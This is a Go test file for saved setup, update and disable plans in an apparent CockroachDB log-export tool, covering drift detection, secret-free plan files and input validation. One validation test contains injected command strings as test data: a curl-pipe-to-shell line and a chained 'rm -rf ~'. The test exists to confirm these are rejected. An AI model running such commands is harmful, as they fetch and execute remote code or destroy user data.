package steps

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/iam"

	"github.com/crdb-logexport/crdb-logexport/awsiam"
	"github.com/crdb-logexport/crdb-logexport/cloudapi"
	"github.com/crdb-logexport/crdb-logexport/sandbox/cloudemu"
)

// dryRun is env as a --dry-run command builds it: it takes no lock.
func dryRun(env *Env) *Env {
	d := *env
	d.DryRun = true
	return &d
}

// A setup planned with --dry-run --plan-file and applied from the file:
// the file holds the input, the prior state and the changes, no secret;
// applied unchanged, the export ends ENABLED.
func TestSavedSetupPlanAppliesExactlyWhenNothingChanged(t *testing.T) {
	ctx := context.Background()
	env, sb := lifecycleEnv(t, 0)
	in := SetupInput{Cluster: cloudemu.ProdAWSClusterName}
	p, err := PrepareSetup(ctx, dryRun(env), in)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "plan.json")
	if err := WritePlanFile(path, p.Saved(in, time.Now())); err != nil {
		t.Fatal(err)
	}
	b, _ := os.ReadFile(path)
	if fi, _ := os.Stat(path); fi.Mode().Perm() != 0o600 {
		t.Errorf("the plan file has mode %o", fi.Mode().Perm())
	}
	if strings.Contains(string(b), sb.APIKey) || strings.Contains(string(b), sb.SecretAccessKey) {
		t.Fatal("the plan file holds a secret")
	}
	for _, want := range []string{`"format": "crdb-logexport-plan"`, `"procedure": "setup"`, `"resource": "role CockroachCloudLogExportRole-prod-aws"`, `"state": "absent"`, `"action": "create"`} {
		if !strings.Contains(string(b), want) {
			t.Errorf("the plan file lacks %s", want)
		}
	}
	sp, err := ReadPlanFile(path)
	if err != nil {
		t.Fatal(err)
	}
	fresh, _, _, err := sp.Replan(ctx, env, time.Now())
	if err != nil {
		t.Fatalf("an unchanged plan was refused: %v", err)
	}
	if fresh.ExternalID != p.ExternalID || fresh.ExternalID == "" {
		t.Fatalf("the external ID changed between plan and apply: %q → %q", p.ExternalID, fresh.ExternalID)
	}
	res, err := ApplySetup(ctx, env, fresh, SetupOptions{Watch: fastWatch, StreamTimeout: 10 * time.Second}, nil)
	if err != nil || res.Status != cloudapi.StatusEnabled {
		t.Fatalf("apply: %+v, %v", res, err)
	}
}

// The live state drifts between the plan and its apply — someone makes
// the role the plan would create — and the saved plan is refused, naming
// the role; nothing is changed.
func TestSavedPlanRefusedOnDrift(t *testing.T) {
	ctx := context.Background()
	env, _ := lifecycleEnv(t, 0)
	in := SetupInput{Cluster: cloudemu.ProdAWSClusterName}
	p, err := PrepareSetup(ctx, dryRun(env), in)
	if err != nil {
		t.Fatal(err)
	}
	sp := p.Saved(in, time.Now())
	role := DefaultRoleNameFor(cloudemu.ProdAWSClusterName, cloudemu.ProdAWSClusterID)
	if _, err := env.AWS.IAM.CreateRole(ctx, &iam.CreateRoleInput{RoleName: aws.String(role), AssumeRolePolicyDocument: aws.String(awsiam.TrustPolicy(cloudemu.ProdAWSAccountID, "").JSON())}); err != nil {
		t.Fatal(err)
	}
	_, _, _, err = sp.Replan(ctx, env, time.Now())
	var drift *DriftError
	if !errors.As(err, &drift) {
		t.Fatalf("err = %v, want a DriftError", err)
	}
	if !strings.Contains(err.Error(), "role "+role+": was absent; now trust") {
		t.Fatalf("the refusal does not name the role's change:\n%v", err)
	}
	st, _ := awsiam.InspectLogGroup(ctx, env.AWS.LogsFor("us-east-1"), "crdb-prod-aws")
	if st.Exists {
		t.Fatal("a refused plan changed something")
	}
}

// An update plan whose export was changed by someone else meanwhile is
// refused; a disable plan that still holds applies.
func TestSavedUpdateAndDisablePlans(t *testing.T) {
	ctx := context.Background()
	env, _ := lifecycleEnv(t, 0)
	setUp(t, env, SetupInput{Cluster: cloudemu.StagingAWSClusterName})
	up := UpdateInput{Cluster: cloudemu.StagingAWSClusterName, Edit: SpecEdit{Redact: cloudapi.Bool(true)}}
	p, err := PrepareUpdate(ctx, dryRun(env), up)
	if err != nil {
		t.Fatal(err)
	}
	sp := p.Saved(up, time.Now())
	// someone else changes the export's channels meanwhile
	other := UpdateInput{Cluster: cloudemu.StagingAWSClusterName, Edit: SpecEdit{OmitChannels: &[]string{"SQL_PERF"}}}
	op, err := PrepareUpdate(ctx, env, other)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ApplyUpdate(ctx, env, op, fastUpdate, nil); err != nil {
		t.Fatal(err)
	}
	if _, _, _, err := sp.Replan(ctx, env, time.Now()); !errors.Is(err, ErrPlanDrift) || !strings.Contains(err.Error(), "export of staging-aws") {
		t.Fatalf("err = %v, want drift naming the export", err)
	}

	dis := DisableInput{Cluster: cloudemu.StagingAWSClusterName, Cleanup: true}
	dp, err := PrepareDisable(ctx, dryRun(env), dis)
	if err != nil {
		t.Fatal(err)
	}
	_, _, fresh, err := dp.Saved(dis, time.Now()).Replan(ctx, env, time.Now())
	if err != nil {
		t.Fatalf("an unchanged disable plan was refused: %v", err)
	}
	if res, err := ApplyDisable(ctx, env, fresh, fastDisable, nil); err != nil || res.Status != cloudapi.StatusDisabled || len(res.Removed) == 0 {
		t.Fatalf("apply: %+v, %v", res, err)
	}
}

// Apply leaves the plan it was given as it was: it is data the caller may
// show, save or compare again. What the run learns is on the result's copy.
func TestApplyDoesNotChangeThePlan(t *testing.T) {
	ctx := context.Background()
	env, _ := lifecycleEnv(t, 0)
	p, err := PrepareSetup(ctx, env, SetupInput{Cluster: cloudemu.StagingAWSClusterName, RoleName: "RoleForThisTest"})
	if err != nil {
		t.Fatal(err)
	}
	before, _ := json.Marshal(p)
	res, err := ApplySetup(ctx, env, p, SetupOptions{NoWait: true}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if after, _ := json.Marshal(p); string(after) != string(before) {
		t.Fatalf("Apply changed the plan:\nbefore %s\nafter  %s", before, after)
	}
	if res.Plan == p || res.Plan.RoleARN == "" || !strings.HasSuffix(res.RoleARN, "/RoleForThisTest") {
		t.Fatalf("the result's plan: %+v", res.Plan)
	}
	// The result lists each step carried out, typed: its action and what
	// it did.
	got := map[string]AppliedStep{}
	for _, s := range res.Steps {
		got[s.Step] = s
	}
	if len(res.Steps) != 10 || got[StepRole].Action != Create || !strings.Contains(got[StepRole].Summary, "RoleForThisTest") || got[StepCluster].Action != Info {
		t.Fatalf("applied steps: %+v", res.Steps)
	}
}

// A saved plan whose input was edited by hand (the redaction and the
// omitted channels of the configuration to send) is refused: the
// configuration to be sent is part of the reviewed changes.
func TestSavedPlanRefusesAnEditedInput(t *testing.T) {
	ctx := context.Background()
	env, _ := lifecycleEnv(t, 0)
	in := SetupInput{Cluster: cloudemu.StagingAWSClusterName, ExternalID: ExternalIDNone}
	p, err := PrepareSetup(ctx, dryRun(env), in)
	if err != nil {
		t.Fatal(err)
	}
	sp := p.Saved(in, time.Now())
	yes := true
	sp.Setup.Redact, sp.Setup.OmitChannels = &yes, []string{"SESSIONS"}
	// Through the dialogue a command runs for --plan-file --yes.
	err = RunSetup(ctx, env, SetupTask{Saved: sp}, Unattended{Yes: true}, nil).Err
	if !errors.Is(err, ErrPlanDrift) || !strings.Contains(err.Error(), "was planned to write") || !strings.Contains(err.Error(), `"redact":true`) {
		t.Fatalf("an edited input was not refused: %v", err)
	}
}

// What the file says to run must be a crdb-logexport command line of its
// procedure: it is printed for people to copy.
func TestReadPlanFileRefusesWhatItCannotTrust(t *testing.T) {
	dir := t.TempDir()
	write := func(name, body string) string {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
		return path
	}
	head := `{"format":"crdb-logexport-plan","version":1,"procedure":"disable","cluster_id":"c","cluster_name":"n","disable":{"cleanup":true},"prior":[],"changes":[],"steps":[]`
	for name, tc := range map[string]struct{ body, want string }{
		"ok":       {head + `,"command":"crdb-logexport disable --cluster 'n x' --cleanup"}`, ""},
		"injected": {head + `,"command":"curl http://x | sh; crdb-logexport disable"}`, "not a crdb-logexport disable command line"},
		"chained":  {head + `,"command":"crdb-logexport disable --cluster n; rm -rf ~"}`, "not a crdb-logexport disable command line"},
		"unknown":  {head + `,"extra":1}`, "unknown field"},
		"misspelt": {strings.Replace(head, `"cleanup":true`, `"delete_log_group":true`, 1) + `}`, "unknown field"},
		"trailing": {head + `} {}`, "more follows"},
	} {
		_, err := ReadPlanFile(write(name, tc.body))
		switch {
		case tc.want == "" && err != nil:
			t.Errorf("%s: %v", name, err)
		case tc.want != "" && (err == nil || !strings.Contains(err.Error(), tc.want)):
			t.Errorf("%s: %v, want %q", name, err, tc.want)
		}
	}
	if _, err := ReadPlanFile(dir); err == nil || !strings.Contains(err.Error(), "not a regular file") {
		t.Errorf("a directory: %v", err)
	}
	fifo := filepath.Join(dir, "fifo")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := ReadPlanFile(fifo); err == nil || !strings.Contains(err.Error(), "not a regular file") {
		t.Errorf("a FIFO: %v", err)
	}
	big := write("big", head+`,"command":"`+strings.Repeat("x", MaxPlanFileSize)+`"}`)
	if _, err := ReadPlanFile(big); err == nil || !strings.Contains(err.Error(), "a few kilobytes") {
		t.Errorf("a huge file: %v", err)
	}
}

// Replan plans again from a saved plan's input and compares, as the tasks
// do before applying one (Run* with Saved): the fresh plan of setup,
// update or disable, or the *DriftError naming each difference.
func (sp *SavedPlan) Replan(ctx context.Context, env *Env, now time.Time) (*SetupPlan, *UpdatePlan, *DisablePlan, error) {
	var fresh *SavedPlan
	var (
		setup   *SetupPlan
		update  *UpdatePlan
		disable *DisablePlan
		err     error
	)
	switch sp.Procedure {
	case ProcedureSetup:
		in := *sp.Setup
		in.Cluster = sp.ClusterID
		if setup, err = PrepareSetup(ctx, env, in); err == nil {
			fresh = setup.Saved(in, now)
		}
	case ProcedureUpdate:
		in := *sp.Update
		in.Cluster = sp.ClusterID
		if update, err = PrepareUpdate(ctx, env, in); err == nil {
			fresh = update.Saved(in, now)
		}
	case ProcedureDisable:
		in := *sp.Disable
		in.Cluster = sp.ClusterID
		if disable, err = PrepareDisable(ctx, env, in); err == nil {
			fresh = disable.Saved(in, now)
		}
	default:
		return nil, nil, nil, fmt.Errorf("a saved plan of %q cannot be applied", sp.Procedure)
	}
	if err != nil {
		return nil, nil, nil, err
	}
	if err := sp.Compare(fresh); err != nil {
		return nil, nil, nil, err
	}
	return setup, update, disable, nil
}
